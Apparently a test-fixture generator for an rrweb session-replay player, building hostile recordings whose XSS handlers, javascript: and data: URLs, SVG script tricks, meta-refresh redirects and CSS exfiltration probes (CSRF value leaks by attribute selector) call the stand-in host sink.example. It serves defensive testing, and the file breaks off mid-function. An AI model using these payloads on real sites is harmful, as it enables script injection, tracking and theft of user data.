/*
 * Hostile recordings of pages, made here: what an uploader could put into rrweb events so that whoever watches them is found out, led
 * somewhere, or runs something. Each has a name and events; each address names its recording's number under sink.example, so that a hit
 * says whose it was. Pure, the same every time.
 *
 *   import { recordings } from "./make.mjs";    node tests/hostile/make.mjs [--seeds DIR]
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { pathToFileURL } from "node:url";

export const SINK = "sink.example";
const T0 = 1_760_000_000_000;

/* ---- building ---- */

const el = (tagName, attributes = {}, childNodes = [], more = {}) => ({ type: 2, tagName, attributes, childNodes, ...more });
const svg = (tagName, attributes = {}, childNodes = []) => el(tagName, attributes, childNodes, { isSVG: true });
const text = (textContent, more = {}) => ({ type: 3, textContent, ...more });

/* Gives each node a number in the order of the page, from 10 on; html is 3, head 4, body 5. */
function number(node, next) {
  if (typeof node !== "object" || node === null) return node;
  if (node.id === undefined) node.id = next.id++;
  if (Array.isArray(node.childNodes)) for (const c of node.childNodes) number(c, next);
  return node;
}

export function page(body, head = [], { quirks = false, id = 10 } = {}) {
  const next = { id };
  for (const n of [...head, ...body]) number(n, next);
  const html = el("html", {}, [el("head", {}, head, { id: 4 }), el("body", {}, body, { id: 5 })], { id: 3 });
  const node = { type: 0, ...(quirks ? { compatMode: "BackCompat" } : {}), childNodes: [...(quirks ? [] : [{ type: 1, name: "html", publicId: "", systemId: "", id: 2 }]), html], id: 1 };
  return [
    { type: 4, data: { href: "http://shop.example/", width: 800, height: 600 }, timestamp: T0 },
    { type: 2, data: { node, initialOffset: { top: 0, left: 0 } }, timestamp: T0 + 1 },
  ];
}

let clock = 0;
const at = (data) => ({ type: 3, data, timestamp: T0 + 10 + (clock += 5) });
const mutation = (m) => at({ source: 0, texts: [], attributes: [], removes: [], adds: [], ...m });
const add = (node, parentId = 5, from = 500) => mutation({ adds: [{ parentId, nextId: null, node: number(node, { id: from }) }] });
const change = (id, attributes) => mutation({ attributes: [{ id, attributes }] });
const end = () => ({ type: 3, data: { source: 1, positions: [{ x: 9, y: 9, id: 5, timeOffset: 0 }] }, timestamp: T0 + 400 });

const all = [];
/* make(u, host): events; u(path) is an address of this recording's own. */
function put(name, make) {
  const n = all.length + 1;
  const host = `c${n}.${SINK}`;
  const u = (path = "x") => `http://${host}/${path}`;
  clock = 0;
  all.push({ n, name, events: [...make(u, host), end()] });
}

/* ---- elements and their attributes: as recorded, as added later, and as changed later ---- */

function element(name, make, { late = true } = {}) {
  put(`${name}, recorded`, (u, h) => page([make(u, h)].flat()));
  if (late) put(`${name}, added`, (u, h) => [...page([el("p", {}, [text("first")])]), ...[make(u, h)].flat().map((n, i) => add(n, 5, 500 + 50 * i))]);
}

function fetches() {
  element("img src", (u) => el("img", { src: u() }));
  element("img src without scheme", (u, h) => el("img", { src: `//${h}/x` }));
  element("img src with blanks", (u) => el("img", { src: `\t\n ${u()}` }));
  element("IMG SRC in capitals", (u) => el("IMG", { SRC: u() }));
  element("img srcset", (u) => el("img", { srcset: `${u("1")} 1x, ${u("2")} 2x`, sizes: "100vw" }));
  element("img lowsrc and dynsrc", (u) => el("img", { lowsrc: u("l"), dynsrc: u("d") }));
  element("img attributionsrc", (u) => el("img", { attributionsrc: u(), src: "data:image/gif;base64,R0lGODlhAQABAAAAACw=" }));
  element("img src as a list", (u) => el("img", { src: [u()] }));
  element("img rr_dataURL", (u) => el("img", { rr_dataURL: u(), src: "x.png" }));
  element("canvas rr_dataURL", (u) => el("canvas", { rr_dataURL: u(), width: "50", height: "50" }));
  element("picture source", (u) => el("picture", {}, [el("source", { srcset: u("s") }), el("img", { src: u("i") })]));
  element("input type=image", (u) => el("input", { type: "image", src: u() }));
  element("video src and poster", (u) => el("video", { src: u("v"), poster: u("p"), autoplay: "", preload: "auto", muted: "" }));
  element("video source", (u) => el("video", { autoplay: "", preload: "auto" }, [el("source", { src: u("s"), type: "video/mp4" }), el("track", { src: u("t"), default: "", kind: "captions" })]));
  element("audio src", (u) => el("audio", { src: u(), autoplay: "", preload: "auto" }));
  element("audio rr_mediaState", (u) => el("audio", { src: u(), rr_mediaState: "played", rr_mediaCurrentTime: 1e308 }));
  element("iframe src", (u) => el("iframe", { src: u() }));
  element("iframe srcdoc", (u) => el("iframe", { srcdoc: `<img src=${u()} onerror=alert(1)><script>alert(1)</script>` }));
  element("iframe src data", (u) => el("iframe", { src: `data:text/html,<img src=${u()}><script>alert(1)</script>` }));
  element("iframe src javascript", () => el("iframe", { src: "javascript:alert(1)" }));
  element("iframe src an image", () => el("iframe", { src: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>" }));
  element("frameset", (u) => el("frameset", {}, [el("frame", { src: u() })]));
  element("embed", (u) => el("embed", { src: u(), type: "image/svg+xml" }));
  element("object", (u) => el("object", { data: u(), codebase: u("b") }, [el("param", { name: "movie", value: u("p") })]));
  element("object data", (u) => el("object", { data: `data:text/html,<img src=${u()}>`, type: "text/html" }));
  element("applet", (u) => el("applet", { codebase: u(), archive: u("a"), code: "X" }));
  element("portal", (u) => el("portal", { src: u() }));
  element("fencedframe", (u) => el("fencedframe", { src: u() }));
  element("script src", (u) => el("script", { src: u() }));
  element("SCRIPT src", (u) => el("SCRIPT", { src: u() }, [text("alert(1)")]));
  element("script module", (u) => el("script", { type: "module" }, [text(`import "${u()}"; alert(1)`)]));
  element("bgsound", (u) => el("bgsound", { src: u() }));
  element("body background", (u) => [el("table", { background: u("t") }, [el("tbody", {}, [el("tr", {}, [el("td", { background: u("d") }, [text("x")])])])])]);
  element("menuitem icon", (u) => el("menu", { type: "context" }, [el("menuitem", { icon: u() })]));
  element("base", (u) => [el("base", { href: u() }), el("img", { src: "relative.png" }), el("a", { href: "relative" }, [text("a")])]);
  element("base target", (u) => [el("base", { target: "_top", href: u() })]);
  for (const rel of ["stylesheet", "alternate stylesheet", "preload", "prefetch", "dns-prefetch", "preconnect", "modulepreload", "prerender", "icon", "apple-touch-icon", "manifest", "import", "next", "compression-dictionary"])
    element(`link ${rel}`, (u) => el("link", { rel, href: u(), as: rel === "preload" ? "image" : "script", crossorigin: "", onload: "alert(1)" }));
  element("link preload imagesrcset", (u) => el("link", { rel: "preload", as: "image", imagesrcset: `${u()} 1x`, imagesizes: "1px" }));
  element("LINK in capitals", (u) => el("LINK", { REL: "stylesheet", HREF: u() }));
  element("img of the player's own address", () => [el("img", { src: "#" }), el("img", { src: "?x" }), el("iframe", { src: "#" })]);
}

function meta() {
  element("meta refresh", (u) => el("meta", { "http-equiv": "refresh", content: `0;url=${u()}` }));
  element("META Refresh", (u) => el("META", { "HTTP-EQUIV": "ReFrEsH", CONTENT: `0; URL='${u()}'` }));
  element("meta refresh javascript", () => el("meta", { "http-equiv": "refresh", content: "0;url=javascript:alert(1)" }));
  element("meta policy report", (u) => [el("meta", { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${u()}` }), el("img", { src: "x.png" })]);
  element("meta dns control", (u) => [el("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }), el("a", { href: u() }, [text("link")])]);
  element("meta accept-ch", (u) => [el("meta", { "http-equiv": "accept-ch", content: "sec-ch-ua" }), el("meta", { name: "referrer", content: "unsafe-url" }), el("img", { src: u() })]);
  put("meta becomes a refresh later", (u) => [...page([], [el("meta", { name: "x", content: `0;url=${u()}` }, [], { id: 50 })]), change(50, { "http-equiv": "refresh" }), change(50, { content: `0;url=${u()}` })]);
}

const HANDLERS = ["onload", "onerror", "onclick", "onfocus", "onpageshow", "ontoggle", "onanimationstart", "onbegin", "onpointerrawupdate", "onscroll", "onwebkittransitionend", "onbeforetoggle", "oncontentvisibilityautostatechange"];

function handlers() {
  for (const on of HANDLERS) element(`${on}`, () => [el("img", { src: "data:,", [on]: "alert(1)" }), svg("svg", { [on]: "alert(1)" }), el("details", { open: "", [on]: "alert(1)" }, [el("summary", {}, [text("s")])]), el("input", { autofocus: "", [on.toUpperCase()]: "alert(1)" })], { late: on < "onf" });
  element("handler with a prefix", () => [svg("svg", { "ev:onload": "alert(1)", "x:onload": "alert(1)" }), svg("handler", { "ev:event": "load" }, [text("alert(1)")])]);
  put("handlers as later changes", () => [...page([el("img", {}, [], { id: 50 }), el("body", {}, [], { id: 51 })]), ...HANDLERS.map((on) => change(50, { [on]: "alert(1)", src: "data:," })), change(51, { onload: "alert(1)", onfocus: "alert(1)" })]);
  put("handler as text that is a list", () => [...page([el("img", { src: "data:,", onerror: ["alert(1)"] }, [], { id: 50 })]), change(50, { onerror: { toString: "alert(1)" } })]);
}

function links() {
  for (const [name, href] of [["javascript", "javascript:alert(1)"], ["JaVaScRiPt", "JaVaScRiPt:alert(1)"], ["java tab script", "java\tscript:alert(1)"], ["java line script", "java\r\nscript:alert(1)"], ["control javascript", "\u0001javascript:alert(1)"], ["hidden javascript", "\u200bjava\u00adscript:alert(1)"],
    ["vbscript", "vbscript:msgbox(1)"], ["data html", "data:text/html,<script>alert(1)</script>"], ["data html base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="], ["data xml", "data:application/xhtml+xml,<x/>"], ["view-source", "view-source:javascript:alert(1)"], ["feed", "feed:javascript:alert(1)"]])
    element(`link to ${name}`, () => [el("a", { href, autofocus: "", accesskey: "x", id: "a" }, [text("click")]), el("area", { href }), svg("a", { "xlink:href": href }, [svg("text", { y: "20" }, [text("x")])])], { late: name.length < 12 });
  element("a ping", (u) => el("a", { href: "#here", ping: u(), autofocus: "" }, [text("x")]));
  element("a attributionsrc", (u) => el("a", { href: "#x", attributionsrc: u() }, [text("x")]));
  element("a href of the sink", (u) => el("a", { href: u(), rel: "prerender", target: "_top" }, [text("x")]));
  element("a with accesskey and autofocus", (u) => el("a", { href: u(), accesskey: "e", autofocus: "", tabindex: "0" }, [text("x")]));
  element("form", (u) => el("form", { action: u(), method: "get", target: "_top", id: "f" }, [el("input", { name: "q", value: "secret", autofocus: "" }), el("button", { formaction: u("b"), type: "submit" }, [text("go")]), el("input", { type: "image", formaction: u("i"), src: "x" }), el("isindex", { action: u("s") })]));
  put("a form, clicked by the recording", (u) => [...page([el("form", { action: u(), target: "_top" }, [el("button", { type: "submit", id: "b" }, [text("go")], { id: 60 })], { id: 59 }), el("a", { href: u(), target: "_blank" }, [text("x")], { id: 61 })]), ...[0, 1, 2, 3, 4, 5, 6, "Click", "click"].flatMap((type) => [60, 61].map((id) => at({ source: 2, type, id, x: 1, y: 1 })))]);
  element("blockquote cite", (u) => [el("blockquote", { cite: u() }, [text("x")]), el("q", { cite: "javascript:alert(1)" }, [text("x")]), el("img", { longdesc: u(), usemap: "#m" })]);
  element("html manifest", (u) => [el("html", { manifest: u(), profile: u("p") }), el("head", { profile: u() })]);
  element("title", () => [el("title", {}, [text("Hacked </title><script>alert(1)</script>")]), el("title", {}, [text("Hacked")])]);
  element("dialog and popover", (u) => [el("dialog", { open: "", rr_open_mode: "modal" }, [el("img", { src: u() })]), el("div", { popover: "manual" }, [text("x")]), el("button", { popovertarget: "x", autofocus: "" }, [text("x")])]);
  element("contenteditable", () => el("div", { contenteditable: "true", autofocus: "", spellcheck: "true" }, [text("x")]));
}

function vectors() {
  element("svg image href", (u) => svg("svg", {}, [svg("image", { href: u("h"), width: "10", height: "10" }), svg("image", { "xlink:href": u("x"), width: "10", height: "10" })]));
  element("svg image of the page", () => svg("svg", {}, [svg("image", { href: "#x", width: "10", height: "10" }), svg("image", { href: "?x", width: "10", height: "10" })]));
  element("svg feImage", (u) => svg("svg", {}, [svg("filter", { id: "f" }, [svg("feImage", { href: u("h"), "xlink:href": u("x") })]), svg("rect", { filter: "url(#f)", width: "50", height: "50" })]));
  element("svg use", (u) => svg("svg", {}, [svg("use", { href: u("h#a") }), svg("use", { "xlink:href": u("x#a") }), svg("use", { href: "data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x" })]));
  element("svg use of the player's address", () => svg("svg", {}, [svg("use", { href: "/dom#x" }), svg("use", { href: "?x#y" })]));
  element("svg gradients and patterns", (u) => svg("svg", {}, ["linearGradient", "radialGradient", "pattern", "filter", "mpath", "textPath", "tref", "cursor", "glyphRef", "altGlyph"].flatMap((t) => [svg(t, { href: u(t) }), svg(t, { "xlink:href": u("x" + t), id: t })])));
  element("svg script", () => svg("svg", {}, [svg("script", {}, [text("alert(1)")]), svg("script", { href: "data:text/javascript,alert(1)" })]));
  element("svg script with a prefix", () => svg("svg:svg", {}, [svg("svg:script", {}, [text("alert(1)")]), svg("x:script", { "xlink:href": "data:,alert(1)" })]));
  element("svg paint", (u) => svg("svg", {}, [svg("rect", { fill: `url(${u("f")}#a)`, stroke: `url("${u("s")}#a")`, width: "50", height: "50" }), svg("rect", { filter: `url(${u("i")}#a)`, width: "50", height: "50" }), svg("g", { mask: `url(${u("m")}#a)`, "clip-path": `u\\72l(${u("c")}#a)` }, [svg("rect", { width: "9", height: "9" })]), svg("path", { d: "M0 0L9 9", "marker-start": `url(${u("k")}#a)`, "marker-end": `url('${u("e")}#a')` })]));
  element("svg cursor attribute", (u) => svg("svg", { cursor: `url(${u()}),auto`, width: "800", height: "600" }));
  element("svg foreignObject", (u) => svg("svg", {}, [svg("foreignObject", { href: u("h"), width: "50", height: "50" }, [el("iframe", { src: u("i") }), el("img", { src: u("m"), onerror: "alert(1)" }), el("body", { onload: "alert(1)" })])]));
  element("svg font", (u) => svg("svg", {}, [svg("font-face", {}, [svg("font-face-src", {}, [svg("font-face-uri", { href: u(), "xlink:href": u("x") })])]), svg("color-profile", { "xlink:href": u("c") })]));
  element("svg style", (u) => svg("svg", {}, [svg("style", {}, [text(`@import url(${u("i")}); rect{fill:url(${u("f")})}`)]), svg("rect", { width: "9", height: "9" })]));
  element("svg animates a link", () => svg("svg", {}, [svg("a", {}, [svg("animate", { attributeName: "href", values: "javascript:alert(1)", begin: "0s", dur: "1s" }), svg("text", { y: "9" }, [text("x")])])]));
  element("svg sets an image's address", (u) => svg("svg", {}, [svg("image", { width: "50", height: "50" }, [svg("set", { attributeName: "href", to: u("s"), begin: "0s" }), svg("animate", { attributeName: "xlink:href", values: `${u("a")};${u("b")}`, dur: "1s", begin: "0s" })])]));
  element("svg animates by href", (u) => svg("svg", {}, [svg("image", { id: "i1", width: "50", height: "50" }), svg("set", { href: "#i1", attributeName: "href", to: u() }), svg("animateTransform", { "xlink:href": "#i1", attributeName: "HREF", from: u("f"), to: u("t"), dur: "1s" }), svg("discard", { href: u("d") })]));
  element("svg animates a filter", (u) => svg("svg", {}, [svg("rect", { width: "50", height: "50" }, [svg("animate", { attributeName: "filter", values: `url(${u("f")}#a);url(${u("g")}#a)`, dur: "1s" }), svg("set", { attributeName: "mask", to: `url(${u("m")}#a)` }), svg("set", { attributeName: "onclick", to: "alert(1)" }), svg("set", { attributeName: "style", to: `background:url(${u("s")})` })])]));
  element("svg events", () => svg("svg", { onload: "alert(1)" }, [svg("animate", { onbegin: "alert(1)", attributeName: "x", dur: "1s" }), svg("set", { onend: "alert(1)", attributeName: "x", to: "1" })]));
  put("an animation gets its target later", (u) => [...page([svg("svg", {}, [svg("image", { width: "50", height: "50" }, [svg("set", { to: u(), begin: "0s" }, [])])])]), change(12, { attributeName: "href" }), change(12, { attributename: "xlink:href", to: u("t") })]);
  put("addresses of drawings, later", (u) => [...page([svg("svg", {}, [svg("use", { href: "#a" }), svg("image", { width: "9", height: "9" }), svg("feImage", {})])]), ...[11, 12, 13].flatMap((id) => [change(id, { href: u("h" + id) + "#x" }), change(id, { "xlink:href": u("x" + id) }), change(id, { filter: `url(${u("f" + id)}#f)` })])]);
  put("uses that grow without end", () => {
    const level = (i) => svg("g", { id: `g${i}` }, Array.from({ length: 10 }, () => (i === 0 ? svg("rect", { width: "1", height: "1" }) : svg("use", { href: `#g${i - 1}` }))));
    return page([svg("svg", { width: "10", height: "10" }, Array.from({ length: 6 }, (_, i) => level(i)))]);
  });
  element("math", (u) => [el("math", { href: "javascript:alert(1)", "xlink:href": u() }, [el("mtext", {}, [el("img", { src: u("i"), onerror: "alert(1)" })]), el("maction", { actiontype: "statusline#" + u("a"), "xlink:href": "javascript:alert(1)" }, [text("x")]), el("annotation-xml", { encoding: "text/html" }, [el("script", {}, [text("alert(1)")])])])]);
}

/* Text that would be markup if anything parsed it again. */
function mutating() {
  const payloads = (u) => [`</TAG><img src=${u("a")} onerror=alert(1)>`, `--><script>alert(1)</script>`, `]]><img src=${u("b")}>`, `<!--</TAG><iframe src=${u("c")}>-->`, `<![CDATA[</TAG><img src=${u("d")}>]]>`];
  for (const tag of ["style", "noscript", "textarea", "title", "xmp", "noembed", "noframes", "plaintext", "listing", "iframe", "template", "select", "option", "svg", "math", "table", "p"])
    element(`text of ${tag}`, (u) => payloads(u).map((t) => el(tag, tag === "textarea" ? { value: t.replaceAll("TAG", tag) } : {}, [text(t.replaceAll("TAG", tag))], tag === "svg" ? { isSVG: true } : {})), { late: tag < "o" });
  element("svg style in math in table", (u) => el("form", {}, [el("math", {}, [el("mtext", {}, [el("table", {}, [el("mglyph", {}, [svg("style", {}, [el("img", { src: u(), onerror: "alert(1)", title: "--&gt;&lt;img src=1 onerror=alert(1)&gt;" })])])])])])]));
  element("attributes that close their tag", (u) => el("div", { title: `"><img src=${u("t")} onerror=alert(1)>`, [`x"><img src=${u("n")}`]: "y", "x/onload": "alert(1)", "a>b": "c", "": "empty", " onload": "alert(1)", "on\u0000load": "alert(1)", "\u212aonload": "1" }));
  element("names that close their tag", (u) => [el(`img src=${u()} onerror=alert(1)`), el("img/src"), el("<script>"), el("a b"), el(""), el("1x"), el("script\u0000"), el("scr\u0131pt"), el("\u017fcript")]);
  element("a tag that is no text", () => [el(["script"]), el({ toString: "script" }), el(7), el(null), el(true)]);
  for (const tag of ["constructor", "__proto__", "toString", "valueOf", "hasOwnProperty"]) put(`a tag called ${tag}`, (u) => page([el(tag, { src: u() }, [text("x")])]));
  put("comments and sections", (u) => page([{ type: 5, textContent: `--><img src=${u("c")}><!--`, id: 50 }, { type: 4, textContent: `]]><script>alert(1)</script>`, id: 51 }, text("x")]));
  put("a document type with quotes", (u) => { const e = page([text("x")]); e[1].data.node.childNodes[0] = { type: 1, name: `html"><img src=${u()}>`, publicId: `"><script>alert(1)</script>`, systemId: u("dtd"), id: 2 }; return e; });
  put("quirks, with a document that is none", (u) => { const e = page([el("img", { src: u() })], [], { quirks: true }); e[1].data.node.childNodes = []; return e; });
  put("quirks in XHTML", (u) => { const e = page([el("img", { src: u() })], [], { quirks: true }); e[1].data.node.childNodes[0].attributes.xmlns = "http://www.w3.org/1999/xhtml"; return e; });
  element("shadow roots", (u) => el("div", {}, [el("img", { src: u("i"), onerror: "alert(1)" }, [], { isShadow: true }), el("style", {}, [text(`:host{background:url(${u("s")})} @import url(${u("m")});`)], { isShadow: true }), el("slot", { onslotchange: "alert(1)" }, [], { isShadow: true })], { isShadowHost: true }));
  element("custom elements", (u) => [el("x-evil", { src: u(), is: "x-evil", onclick: "alert(1)" }, [], { isCustom: true }), el("button", { is: "x-evil" })]);
  element("templates", (u) => el("template", { shadowrootmode: "open" }, [el("img", { src: u() }), el("script", {}, [text("alert(1)")])]));
  element("textarea value", (u) => [el("textarea", { value: `</textarea><img src=${u()}>` }), el("input", { value: `"><img src=${u()}>` })]);
  put("nested frames as recorded", (u) => [...page([el("iframe", { rr_src: u("s"), src: u("f") }, [], { id: 50 })]), mutation({ isAttachIframe: true, adds: [{ parentId: 50, nextId: null, node: { type: 0, id: 51, childNodes: [el("html", {}, [el("head", {}, [el("base", { href: u("b") }, [], { id: 54 }), el("meta", { "http-equiv": "refresh", content: `0;url=${u("r")}` }, [], { id: 55 })], { id: 53 }), el("body", { onload: "alert(1)" }, [el("img", { src: u("i") }, [], { id: 57 }), el("script", { src: u("j") }, [], { id: 58 })], { id: 56 })], { id: 52 })] } }] }), change(50, { src: u("late"), srcdoc: `<img src=${u("d")}>`, sandbox: "allow-scripts allow-top-navigation" })]);
}

/* ---- style text, in every place where it can stand ---- */

const CSS = {
  "url": (u) => `p{background:url(${u()})}`,
  "url quoted": (u) => `p{background:URL( "${u()}" )}`,
  "url without scheme": (u, h) => `p{background:url(//${h}/x)}`,
  "url escaped": (u) => `p{background:u\\72l(${u()})} p::after{content:\\75\\72\\6c (${u("2")})}`,
  "url with a line end": (u) => `p{background:url("\\\n${u()}")}`,
  "url far behind blanks": (u) => `p{background:url("${" ".repeat(600)}${u()}")}`,
  "url that is not closed": (u) => `p{background:url(${u()}`,
  "url behind url": (u) => `p{background:url("data:," ")" ); } @import "${u("i")}"; " ; p{background:url("${u("b")}")}`,
  "url behind a variable": (u) => `:root{--x:url(${u()})} p{background:var(--x)} p::before{content:var(--x)}`,
  "import": (u) => `@import url(${u()}); p{color:red}`,
  "import of a string": (u) => `@import "${u()}" layer(x) screen;`,
  "import escaped": (u) => `@im\\70 ort "${u()}"; @\\49MPORT '${u("2")}';`,
  "import behind comments": (u) => `/* } */@import/**/"${u()}"/**/;`,
  "import behind CDO": (u) => `<!-- @import "${u()}"; --> @import url(${u("2")});`,
  "import in halves": (u) => `@im@import "x";port "${u()}";`,
  "import as data": (u) => `@import url("data:text/css,@import url(${u()})");`,
  "import behind charset": (u) => `@charset "utf-8";@layer a;@import url(${u()});`,
  "image-set": (u) => `p{background:image-set("${u()}" 1x, url(${u("2")}) 2x)}`,
  "image-set with a prefix": (u) => `p{background-image:-webkit-image-set(url(${u()}) 1x)}`,
  "image-set with a variable": (u) => `:root{--s:"${u()}"} p{background:image-set(var(--s) 1x)}`,
  "cross-fade": (u) => `p{background:-webkit-cross-fade(url(${u()}),url(${u("2")}),50%)} p::after{content:cross-fade(url(${u("3")}),red)}`,
  "src": (u) => `p{background:src("${u()}")} @font-face{font-family:s;src:src("${u("f")}")} p{font-family:s}`,
  "image": (u) => `p{background:image("${u()}")} p::before{content:image(url(${u("2")}))}`,
  "lists and borders": (u) => `p{display:list-item;list-style:url(${u()}) inside;border:9px solid;border-image:url(${u("2")}) 9}`,
  "content": (u) => `p::before{content:url(${u()})} p{content:url(${u("2")})}`,
  "cursor": (u) => `*{cursor:url(${u()}),pointer}`,
  "mask": (u) => `p{mask:url(${u()});-webkit-mask-image:url(${u("2")});mask-border-source:url(${u("3")})}`,
  "clip, filter, shape, path": (u) => `p{clip-path:url(${u()}#a);filter:url(${u("2")}#a);float:left;shape-outside:url(${u("3")});offset-path:url(${u("4")}#a);backdrop-filter:url(${u("5")}#a)}`,
  "font": (u) => `@font-face{font-family:f;src:local("x"),url(${u()}) format("woff2"),url('${u("2")}')} p{font-family:f}`,
  "font by characters": (u) => [..."abc"].map((c) => `@font-face{font-family:g;src:url(${u(c)});unicode-range:U+${c.charCodeAt(0).toString(16)}}`).join("") + "p{font-family:g}",
  "exfiltration by attribute": (u) => [..."abc"].map((c) => `input[value^="${c}"]{background:url(${u(c)})}`).join("") + `p:has(+ input[name=csrf]){background:url(${u("h")})}`,
  "in media, supports, container, layer": (u) => `@media all{p{background:url(${u("m")})}} @supports (display:block){p::before{content:url(${u("s")})}} @container (min-width:0){p{cursor:url(${u("c")}),auto}} @layer x{p{list-style:url(${u("l")})}}`,
  "nested": (u) => `body{& p{background:url(${u()})} &:hover{cursor:url(${u("h")}),auto}}`,
  "scope and starting style": (u) => `@scope (body){p{background:url(${u()})}} @starting-style{p{background:url(${u("s")})}}`,
  "keyframes": (u) => `@keyframes k{from{background:url(${u()})}to{background:url(${u("2")})}} p{animation:k 1s}`,
  "page": (u) => `@page{background:url(${u()})} @counter-style c{system:cyclic;symbols:url(${u("2")})} @property --p{syntax:"<url>";inherits:true;initial-value:url(${u("3")})} p{background:var(--p)}`,
  "namespace and document": (u) => `@namespace x url(${u("n")}); @document url(${u("d")}){p{background:url(${u("p")})}}`,
  "binding, behavior, expression": (u) => `p{-moz-binding:url(${u()}#x);behavior:url(${u("2")});width:expression(alert(1));background:url(javascript:alert(1))}`,
  "scheme tricks": (u, h) => `p{background:url(HTTP://${h}/x)} p::before{content:url(/\\/${h}/y)} p::after{content:url(\\68ttp://${h}/z)}`,
  "data that is no picture": (u) => `p{background:url("data:text/html,<img src=${u()}>")} p::before{content:url(data:application/xml,x)}`,
  "a picture that asks for more": (u) => `p{background:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${u()}' width='9' height='9'/><style>@import url(${u("i")})</style></svg>")}`,
  "strings that do not end": (u) => `p::before{content:"\n} p{background:url(${u()})} q{content:'\\`,
  "NUL and odd bytes": (u) => `p{background:\u0000url(${u()})} p{background:url\u0000(${u("2")})} p{background:\ufeffurl(${u("3")})}`,
};

function style() {
  const p = () => [el("p", {}, [text("abc")]), el("input", { name: "csrf", value: "abc" })];
  const places = [
    ["text of style", (css) => page(p(), [el("style", {}, [text(css, { isStyle: true })])])],
    ["_cssText of a link", (css, u) => page(p(), [el("link", { rel: "stylesheet", href: u("sheet"), _cssText: css })])],
    ["insertRule", (css) => [...page(p(), [el("style", {}, [text("b{}")], { id: 50 })]), at({ source: 8, id: 50, adds: [{ rule: css, index: 0 }, { rule: css }] }), at({ source: 8, id: 50, replaceSync: css })]],
    ["adopted sheet", (css) => [...page(p()), at({ source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: css, index: 0 }] }] }), at({ source: 8, styleId: 1, replaceSync: css }), at({ source: 8, styleId: 1, replace: css })]],
  ];
  for (const [name, css] of Object.entries(CSS)) for (const [where, make] of places) if (where !== "adopted sheet" || name.length % 2 === 0) put(`css ${name}: ${where}`, (u, h) => make(css(u, h), u, h));
  const values = (u) => [`url(${u()})`, `u\\72l("${u("2")}")`, `image-set("${u("3")}" 1x)`, `red;background:url(${u("4")})`, `url(${u("5")}`];
  put("style attribute", (u) => page(values(u).map((v) => el("p", { style: `background:${v}` }, [text("x")]))));
  put("style attribute, later", (u) => [...page([el("p", {}, [text("x")], { id: 50 })]), ...values(u).map((v) => change(50, { style: `background:${v}` }))]);
  put("style as declarations", (u) => [...page([el("p", {}, [text("x")], { id: 50 })]), ...values(u).map((v) => change(50, { style: { background: v, "list-style": [v, "important"], cursor: [[v], ""], content: { toString: v }, "--x": v } }))]);
  put("style declaration events", (u) => [...page([el("p", {}, [text("x")])], [el("style", {}, [text("p{color:red}")], { id: 50 })]), ...values(u).map((value) => at({ source: 13, id: 50, index: [0], set: { property: "background", value, priority: "important" } })), at({ source: 13, id: 50, index: [0], set: { property: "-moz-binding", value: u() } }), at({ source: 13, id: 50, index: [0], set: { property: "background", value: [values(u)[0]] } })]);
  put("style text, changed later", (u) => [...page([el("p", {}, [text("x")])], [el("style", {}, [text("b{}", { id: 51 })], { id: 50 })]), mutation({ texts: [{ id: 51, value: `p{background:url(${u()})}` }] }), mutation({ texts: [{ id: 51, value: [`p{background:url(${u("2")})}`] }] })]);
  put("style text in two halves", (u) => page([el("p", {}, [text("x")])], [el("style", {}, [text("@imp"), text(`ort "${u()}";`)]), el("style", {}, [text("p{background:u"), text(`rl(${u("2")})}`)]), el("style", {}, [text("p{background:url("), text(`${u("3")})}`)]), el("style", {}, [text("/"), text(`* */ "*/ @import '${u("4")}'; /*"`)]), el("style", {}, [text("p{background:\\"), text(`75 rl(${u("5")})}`)]), el("style", {}, [text('p::before{content:"'), text(`"} @import '${u("6")}'; p{background:url(${u("7")})}`)]), el("style", {}, [text("p{background:image-set("), text(`"${u("8")}" 1x)}`)])]));
  put("style text in two halves, the second added", (u) => [...page([el("p", {}, [text("x")])], [el("style", {}, [text("@imp")], { id: 50 }), el("style", {}, [], { id: 52 })]), add(text(`ort "${u()}";`), 50, 60), add(text(`@import "${u("2")}";`), 52, 61), mutation({ texts: [{ id: 61, value: `@import "${u("3")}";` }] })]);
  put("style text that comes before its element", (u) => [...page([el("p", {}, [text("x")])]), mutation({ texts: [{ id: 71, value: `p{background:url(${u("t")})}` }], attributes: [{ id: 72, attributes: { href: u("h") + "#x", src: u("s") } }], adds: [{ parentId: 70, nextId: null, node: text(`@import "${u()}";`, { id: 71 }) }, { parentId: 5, nextId: null, node: el("style", {}, [], { id: 70 }) }, { parentId: 5, nextId: null, node: svg("svg", {}, [svg("use", {}, [], { id: 72 })], { id: 73 }) }] })]);
  put("sheet parts that rrweb joins", (u) => page([el("p", {}, [text("x")])], [el("style", { _cssText: `@imp/* rr_split */ort "${u()}";/* rr_split */p{background:u/* rr_split */rl(${u("2")})}` }, [text(""), text(""), text("")])]));
  put("a link that becomes a sheet later", (u) => [...page([el("p", {}, [text("x")])], [el("link", { rel: "preload", as: "style" }, [], { id: 50 })]), change(50, { rel: "stylesheet", href: u("h") }), change(50, { _cssText: `@import url(${u("i")}); p{background:url(${u("b")})}`, href: u("x") })]);
  put("style that is SVG's, in capitals, with a prefix", (u) => page([el("p", {}, [text("x")]), svg("svg", {}, [svg("STYLE", {}, [text(`p{background:url(${u("c")})}`)]), svg("svg:style", {}, [text(`p{background:url(${u("p")})}`)])]), el("STYLE", {}, [text(`p{cursor:url(${u("h")}),auto}`)])]));
  put("style text that is a list", (u) => page([el("p", {}, [text("x")])], [el("style", {}, [text([`p{background:url(${u()})}`]), text({ a: 1 })])]));
}

/* ---- events that are not what they should be ---- */

function events() {
  const img = (u, id = 50) => el("img", { src: u("n") + id, onerror: "alert(1)" }, [], { id });
